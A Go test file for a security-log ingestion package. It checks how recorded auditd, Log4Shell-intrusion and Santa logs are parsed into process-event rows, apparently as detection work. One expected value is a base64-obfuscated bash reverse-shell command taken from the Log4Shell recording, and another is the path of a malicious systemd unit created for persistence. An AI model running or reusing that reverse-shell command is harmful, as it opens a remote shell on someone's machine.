package sources

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// unixRecording finds a file of the recordings beside the repository.
func unixRecording(t *testing.T, parts ...string) string {
	t.Helper()
	path := filepath.Join(append([]string{"..", "..", "..", "shared", "corpus"}, parts...)...)
	if _, err := os.Stat(path); err != nil {
		t.Skip("no recordings: ../shared/corpus is not beside the repository")
	}
	return path
}

// count counts rows by what one of their columns says.
func (l loaded) count(column string) map[string]int {
	n := map[string]int{}
	for _, row := range l.rows {
		n[row.values[column]]++
	}
	return n
}

// TestUnixRecordedAudit reads an hour of a server's audit log: 938 events in 1,708
// lines, of which 159 are system calls.
func TestUnixRecordedAudit(t *testing.T) {
	got := loadFiles(t, unixRecording(t, "msticpy", "auditd_log.txt"))
	actions := got.count("ActionType")
	if actions["ProcessCreated"] != 146 || actions["ServiceStarted"] != 4 || actions["ServiceStopped"] != 1 || len(actions) != 3 {
		t.Errorf("rows: %v", actions)
	}
	if read, other := got.account.RowsRead(), got.account.RowsOther(); read != 938 || other != 787 || got.account.RowsRejected() != 0 {
		t.Errorf("%d records, %d others, rejected %v", read, other, got.account.Rejected)
	}
	lines, shell := 0, false
	for _, row := range got.rows {
		if row.table != "DeviceProcessEvents" {
			continue
		}
		command := row.values["ProcessCommandLine"]
		if command != "" {
			lines++
		}
		shell = shell || command == `/bin/sh -c "iptables --version"`
		if row.values["FolderPath"] == "" || row.values["ProcessId"] == "" || row.values["InitiatingProcessId"] == "" || row.values["AccountName"] == "" {
			t.Errorf("record %d lacks something: %v", row.record, row.values)
		}
	}
	if lines != 146 || !shell {
		t.Errorf("%d command lines, the shell's among them: %v", lines, shell)
	}
}

// TestUnixRecordedUnit reads the excerpt in which bash creates a unit: evidence,
// though the lines have lost their time.
func TestUnixRecordedUnit(t *testing.T) {
	got := loadFiles(t, unixRecording(t, "linux_pberba", "systemd_auditd_1.txt"))
	if len(got.rows) != 1 {
		t.Fatalf("%d rows, rejected %v", len(got.rows), got.account.Rejected)
	}
	for column, want := range map[string]string{
		"ActionType":                  "FileCreated",
		"FolderPath":                  "/etc/systemd/system/bad_auditd_example.service",
		"InitiatingProcessFolderPath": "/usr/bin/bash",
		"InitiatingProcessId":         "2738",
		"Timestamp":                   "",
		"TimestampNote":               "no time recorded: the lines lack msg=audit(…)",
	} {
		if value := got.rows[0].values[column]; value != want {
			t.Errorf("%s is %q, want %q", column, value, want)
		}
	}
	if fields := got.rows[0].values["AdditionalFields"]; !strings.Contains(fields, `"LoginUser":"1000"`) {
		t.Errorf("who had logged in: %s", fields)
	}
}

// TestUnixRecordedAgent reads what Microsoft's agent sent of an intrusion: half of
// the programs were not found where they were looked for first, and did not start.
func TestUnixRecordedAgent(t *testing.T) {
	got := loadFiles(t, unixRecording(t, "otrf_log4shell_sentinel", "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json"))
	if len(got.rows) != 27 || got.account.RowsOther() != 23 || got.account.RowsRejected() != 0 {
		t.Errorf("%d rows, %d others, rejected %v", len(got.rows), got.account.RowsOther(), got.account.Rejected)
	}
	first := got.rows[0]
	for _, row := range got.rows {
		if row.record < first.record {
			first = row
		}
	}
	for column, want := range map[string]string{
		"Timestamp":          "2022-05-11 18:10:21.99",
		"DeviceName":         "UBUNTU5",
		"FolderPath":         "/bin/bash",
		"AccountName":        "tomcat",
		"ProcessCommandLine": `bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"`,
	} {
		if value := first.values[column]; value != want {
			t.Errorf("%s is %q, want %q", column, value, want)
		}
	}
}

// TestUnixRecordedLaunchItems reads Santa's own two samples of launch items, which
// stand without the message around them.
func TestUnixRecordedLaunchItems(t *testing.T) {
	got := loadFiles(t, unixRecording(t, "macos_santa_fixtures"))
	actions := got.count("ActionType")
	if actions["LaunchItemAdded"] != 1 || actions["LaunchItemRemoved"] != 1 || len(got.rows) != 2 {
		t.Errorf("rows: %v, rejected %v", actions, got.account.Rejected)
	}
	for _, row := range got.rows {
		if !strings.Contains(row.values["AdditionalFields"], `"ItemPath":"/absolute/path/item"`) || row.values["TimestampNote"] == "" {
			t.Errorf("%v", row.values)
		}
	}
}
